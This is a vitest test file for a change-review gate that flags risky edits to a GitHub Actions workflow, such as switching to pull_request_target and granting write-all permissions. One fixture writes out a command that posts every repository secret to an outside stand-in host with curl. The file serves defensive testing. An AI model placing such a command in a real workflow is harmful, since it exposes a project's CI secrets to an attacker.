// What a finding about a workflow names: the secrets and rights that it adds, so that it reads unlike one about a newer version.
import { expect, test } from 'vitest';
import { GATE_WANTS, judge } from '../../src/gate/gate.ts';
import { changeOf } from '../support/change-of.ts';

const PATH = '.github/workflows/ci.yml';
const BEFORE =
  'on: pull_request\njobs:\n  test:\n    steps:\n      - uses: actions/setup-node@v4\n        with: { node-version: 20 }\n      - run: npm test\n';

async function sayOf(from: string, to: string): Promise<string> {
  const after = BEFORE.replace(from, () => to);
  const findings = await judge(changeOf({ [PATH]: BEFORE }, { [PATH]: after }, GATE_WANTS));
  return findings
    .filter(({ rule }) => rule === 'workflow')
    .map(({ say }) => say)
    .join(' ');
}

test.for([
  ['on: pull_request\n', 'on: pull_request_target\n', '"pull_request_target"'],
  ['jobs:', 'permissions: write-all\njobs:', '"permissions: write-all"'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a workflow says
  ['npm test', 'curl -d "${{ toJSON(secrets) }}" https://x.example', '"${{ toJSON(secrets) }}"'],
] as const)('names what %s becomes', async ([from, to, named]) => {
  expect(await sayOf(from, to)).toContain(`It adds ${named}`);
});

test('names nothing of a newer version', async () => {
  const said = await sayOf('20', '22');
  expect(said).toContain('defines what CI runs');
  expect(said).not.toContain('It adds');
});
